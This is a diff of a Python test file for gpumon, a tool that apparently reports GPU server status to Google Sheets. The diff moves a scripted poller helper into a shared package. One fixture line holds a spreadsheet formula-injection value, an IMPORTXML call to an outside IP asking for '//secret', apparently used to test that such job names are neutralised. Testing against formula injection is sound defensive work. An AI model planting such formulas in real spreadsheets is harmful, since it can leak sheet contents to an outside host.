@@ -9,13 +9,12 @@ import threading
 import time
 
 import pytest
-from sheetkit import gpu, off, on, process
+from sheetkit import ScriptedPoller, gpu, off, on, process
 
 from gpumon import push as push_module
 from gpumon.poll.result import ServerResult
 from gpumon.push import EXIT_CONFIG, EXIT_LOCKED, EXIT_OK, EXIT_SHEET, push, push_once
 from gpumon.sheet import google as google_module
-from gpumon.sheet.layout import server_key
 from gpumon_agent.report import ClaimInfo
 from harness.sheets_client import ACCOUNT
 from harness.sheets_fixtures import GoogleEnv, google_fixture, sheets_server_fixture  # noqa: F401
@@ -33,21 +32,6 @@ IP, STATUS, TIME = 5, 6, 7
 JOB = '=IMPORTXML("http://192.0.2.66/x", "//secret")'  # a job name that looks like a formula
 OWNED_FROM = 5  # IP onwards: IP, ON/OFF, Time, then the columns gpumon adds
 HEADER = 6
-
-
-class ScriptedPoller:
-    """Stands in for the SSH poller: answers each name from a script of results."""
-
-    def __init__(self, results: list[ServerResult], pause: float = 0.0) -> None:
-        self.results = {server_key(r.name): r for r in results}
-        self.pause = pause
-
-    def sweep(self, names: list[str]) -> list[ServerResult]:
-        time.sleep(self.pause)
-        return [self.results.get(server_key(n)) or off(n, "not in the script") for n in names]
-
-    def close(self) -> None:
-        pass
 
 
 def fleet(minute: int = 0, down: dict[str, str] | None = None) -> list[ServerResult]:
